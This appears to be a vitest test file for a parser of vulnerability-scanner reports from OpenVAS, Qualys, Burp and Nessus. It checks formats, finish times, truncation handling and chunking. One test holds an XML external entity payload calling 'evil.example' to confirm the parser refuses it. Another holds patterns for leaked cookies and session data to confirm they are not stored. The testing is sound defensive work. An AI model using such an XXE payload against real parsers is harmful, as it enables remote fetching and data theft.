import { createReadStream, existsSync, readFileSync } from "node:fs";
import { expect, test } from "vitest";
import { readScanFile } from "#server/connectors/registry.ts";
import type { ScanEvidence } from "#server/posture/evidence.ts";

const NOW = "2026-11-23T00:00:00Z";
const shared = new URL("../../../shared/samples/", import.meta.url);
const own = new URL("fixtures/", import.meta.url);
/** The repository's copy, or the shared one of files too large to copy; a machine without either has no such file to read. */
const where = (name: string): URL | null => [new URL(name, own), new URL(name, shared)].find((url) => existsSync(url)) ?? null;

async function* pieces(bytes: Uint8Array, size: number): AsyncIterable<Uint8Array> {
  for (let i = 0; i < bytes.length; i += size) yield bytes.subarray(i, i + size);
}
/** What each sample says of its scan; the numbers found in it are in manifest.test.ts. */
type Standing = ScanEvidence["coverage"] | "not complete";
const SCANS: [file: string, format: string, finishedAt: string | null, standing: Standing][] = [
  ["openvas/many_vuln.xml", "openvas", "2023-09-26T13:04:00Z", "whole"],
  ["openvas/one_vuln.xml", "openvas", "2023-09-28T16:12:15Z", "whole"],
  ["openvas/no_vuln.xml", "openvas", "2023-09-25T10:54:26Z", "not complete"], // Done, but it names no host it looked at: no finding is no proof of none
  ["openvas/many_vuln.csv", "openvas-csv", "2021-05-26T20:50:18.000Z", "unknown"],
  ["openvas/report_using_CVE.csv", "openvas-csv", "2024-03-18T21:29:42.000Z", "unknown"],
  ["openvas/no_vuln.csv", "openvas-csv", null, "not complete"],
  ["qualys/Qualys_Sample_Report.xml", "qualys-report", "2019-07-31T22:15:32Z", "whole"], // the end of the last host's scan, not the day of the report
  ["qualys/empty.xml", "qualys-report", "2021-03-25T07:13:51Z", "not complete"],
  ["qualys/qualys_infrascan_webgui_1.xml", "qualys-scan", "2019-04-02T14:44:04.000Z", "whole"],
  ["qualys/qualys_webapp_many_vuln.xml", "qualys-was", "2020-03-11T17:42:00Z", "whole"],
  ["qualys/qualys_webapp_no_vuln.xml", "qualys-was", "2020-03-15T07:26:00Z", "whole"],
  ["qualys/qualys_webapp_one_vuln.xml", "qualys-was", "2020-03-12T20:54:00Z", "whole"],
  ["qualys/detections.xml", "qualys-detections", "2026-10-01T23:40:00Z", "whole"],
  ["qualys/empty.csv", "qualys-csv", null, "not complete"],
  ["qualys/many_finding.csv", "qualys-csv", "2024-09-16T04:00:30Z", "unknown"],
  ["qualys/one_vuln_cve.csv", "qualys-csv", "2026-02-03T07:00:00Z", "unknown"],
  ["qualys/no_vuln_cve.csv", "qualys-csv", null, "not complete"],
  ["qualys/Qualys_Sample_Report.csv", "qualys-csv", "2021-06-08T12:18:00Z", "unknown"],
  ["burp/one_finding.xml", "burp", "2014-09-13T20:39:44.000Z", "unknown"],
  ["burp/seven_findings.xml", "burp", "2014-09-13T20:35:04.000Z", "unknown"],
  ["burp/one_finding_with_blank_response.xml", "burp", "2014-09-13T20:39:44.000Z", "unknown"],
  ["nessus_csv/nessus_many_vuln2-default.csv", "nessus-csv", null, "whole"], // ended, but at a time of "Romance Standard Time"
  ["nessus_csv/nessus-template.csv", "nessus-csv", null, "not complete"],
];
const AT_HAND = SCANS.filter(([file]) => where(file));

test.each(AT_HAND)("%s is a %s scan that ended %s, its coverage: %s", async (file, format, finishedAt, standing) => {
  const reading = await readScanFile(createReadStream(where(file) ?? ""), { now: NOW });
  const scan = reading.evidence[0] as ScanEvidence;
  expect([reading.format, scan.finishedAt, scan.completed ? scan.coverage : "not complete"]).toEqual([format, finishedAt, standing]);
  // The one template that selects QIDs says so; nothing else in these files is unreadable.
  expect(reading.rejected.map((r) => r.at)).toEqual(file === "qualys/empty.xml" ? ["TEMPLATE_DETAILS"] : []);
});

const ONE_EACH = new Map(AT_HAND.filter(([file]) => !/\/(?:no|empty)/.test(file)).map(([file, format]) => [format, file]));
test.each([...ONE_EACH])("%s: a file that breaks off is refused with the place, wherever it breaks", async (format, file) => {
  const bytes = readFileSync(where(file) ?? "");
  const end = bytes.toString("latin1").trimEnd();
  // In the last cell of a CSV a cut cannot be told from the end, so the last cut is made well before it.
  for (const share of [0.3, 0.5, 0.8]) {
    let cut = Math.floor(end.length * share);
    while (file.endsWith(".csv") && !/[a-z]{3}/.test(end.slice(cut - 3, cut))) cut--;
    const reading = readScanFile(pieces(bytes.subarray(0, cut), 65_536), { format, now: NOW });
    await expect(reading).rejects.toMatchObject({ code: "bad-input", message: expect.stringMatching(/line \d+|No heading/i) });
  }
});

test.each([...ONE_EACH].filter(([, file]) => existsSync(new URL(file, own))))(
  "%s: however %s is cut into pieces, the reading is the same",
  async (_format, file) => {
    const bytes = readFileSync(new URL(file, own));
    const whole = await readScanFile(pieces(bytes, bytes.length), { now: NOW });
    expect(await readScanFile(pieces(bytes, 7), { now: NOW })).toEqual(whole);
  },
);

test.each(["<!ENTITY x 'y'>", '<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;'])("a DTD that declares %s is refused", async (declaration) => {
  for (const root of ["issues", "ASSET_DATA_REPORT", "WAS_SCAN_REPORT", "HOST_LIST_VM_DETECTION_OUTPUT", "SCAN", "report"]) {
    const text = `<?xml version="1.0"?><!DOCTYPE ${root} [${declaration}]><${root} value="x" format_id="x" burpVersion="1"></${root}>`;
    const reading = readScanFile(pieces(Buffer.from(text), 9), { now: NOW });
    await expect(reading).rejects.toMatchObject({ code: "bad-input", message: expect.stringMatching(/line 1.*<!ENTITY/) });
  }
});

const SECRETS = /not-to-be-kept|bm90LXRvLWJlLWtlcHQ|JSESSIONID|Set-Cookie|Cookie:|requestresponse|078-05-1120/;
test.each(
  [
    "qualys/detections.xml",
    "qualys/was_scan.xml",
    "burp/one_finding_with_blank_response.xml",
    "burp/seven_findings.xml",
    "qualys/qualys_webapp_many_vuln.xml",
    "nessus_csv/nessus-template.csv",
  ].filter((file) => where(file)),
)("nothing of what was sent or answered is kept of %s", async (file) => {
  const { evidence, rejected } = await readScanFile(createReadStream(where(file) ?? ""), { now: NOW });
  const kept = JSON.stringify([evidence, rejected]);
  expect(kept).not.toMatch(SECRETS);
  // Eleven characters of base64 of "Cookie: ", "Set-Cookie" and "HTTP/1.1 200", in each of the ways they can fall.
  expect(kept).not.toMatch(/Q29va2ll|Nvb2tpZ|Db29raW|SFRUUC8x|hUVFAvMS|IVFRQLzEu/);
});
